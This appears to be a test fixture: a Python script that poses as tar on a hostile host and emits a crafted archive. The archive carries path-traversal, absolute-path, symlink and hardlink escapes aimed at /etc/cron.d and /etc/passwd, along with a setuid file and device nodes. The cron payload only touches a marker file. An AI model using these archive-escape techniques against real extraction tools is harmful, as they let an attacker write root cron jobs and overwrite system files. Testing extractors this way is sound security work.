#!/usr/bin/python3
"""Stands in the place of tar on a hostile host: asked for an archive, it sends one that would write anywhere."""
import io, os, sys, tarfile

if "--create" not in sys.argv:
    os.execv("/bin/tar", ["tar", *sys.argv[1:]])

archive = tarfile.open(fileobj=sys.stdout.buffer, mode="w|", format=tarfile.PAX_FORMAT)

def add(name, kind=tarfile.REGTYPE, link="", mode=0o644, text=b""):
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname, entry.mode, entry.size = kind, link, mode, len(text)
    entry.devmajor, entry.devminor = 8, 0
    archive.addfile(entry, io.BytesIO(text))

line = b"* * * * * root touch /tmp/attacked\n"
add("./", tarfile.DIRTYPE, mode=0o755)
add("../../etc/cron.d/attack-by-dots", text=line)
add("/etc/cron.d/attack-by-root", text=line)
add("./way", tarfile.SYMTYPE, "/etc/cron.d")
add("./way/attack-by-link", text=line)
add("./up", tarfile.SYMTYPE, "../../etc/cron.d")
add("./up/attack-by-link-up", text=line)
add("./passwd", tarfile.LNKTYPE, "/etc/passwd")
add("./passwd", text=line)
add("./runs-as-root", mode=0o6755, text=b"#!/bin/sh\n")
add("./disk", tarfile.BLKTYPE, mode=0o666)
add("./memory", tarfile.CHRTYPE, mode=0o666)
archive.close()
